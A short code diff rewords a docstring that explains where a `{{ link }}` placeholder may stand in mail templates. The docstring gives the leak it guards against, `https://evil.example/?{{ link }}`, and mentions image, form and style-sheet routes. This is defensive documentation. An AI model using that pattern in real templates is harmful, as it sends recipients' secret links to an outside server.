@@ -1,6 +1,6 @@
 """Where `{{ link }}` may stand: as a whole `href` of an `a`, or as a word of its own (docs/domain/mail.md#mail-12).
 
-Otherwise whoever may edit a text could move the link's secret to another server: `https://evil.example/?{{ link }}`, an
+Otherwise anyone who may edit a text could move the link's secret to another server: `https://evil.example/?{{ link }}`, an
 image whose address is still open, a form, a style sheet that compares it.
 """
 
